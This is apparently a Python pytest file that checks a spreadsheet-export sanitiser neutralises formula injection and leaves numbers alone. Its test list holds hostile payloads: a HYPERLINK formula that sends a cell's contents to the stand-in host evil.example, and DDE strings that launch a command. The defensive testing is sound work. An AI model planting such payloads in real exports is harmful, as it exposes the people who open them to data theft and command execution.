"""Exported text never runs as a spreadsheet formula; numbers stay numbers."""

from __future__ import annotations

import pandas as pd
import pytest

from onpace.views.value_cells import safe_cell, safe_frame

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1",
    "-",
    "+",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_starts_get_an_apostrophe(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", [-3, -2.5, 0, 1e9, "-12.5", "+7", "-1e3", "Acme", "a=b", ""])
def test_numbers_and_plain_text_are_left_alone(value: object) -> None:
    assert safe_cell(value) == value


def test_safe_frame_neutralises_text_columns_and_names_only() -> None:
    frame = pd.DataFrame({"member": ["=cmd", "web"], "value": [-5.0, 2.0], "=x": ["a", "@b"]})
    out = safe_frame(frame)
    assert out["member"].tolist() == ["'=cmd", "web"]
    assert out["value"].tolist() == [-5.0, 2.0] and out["value"].dtype == float
    assert list(out.columns) == ["member", "value", "'=x"] and out["'=x"].tolist() == ["a", "'@b"]
    assert frame["member"].tolist() == ["=cmd", "web"]  # the input is not changed
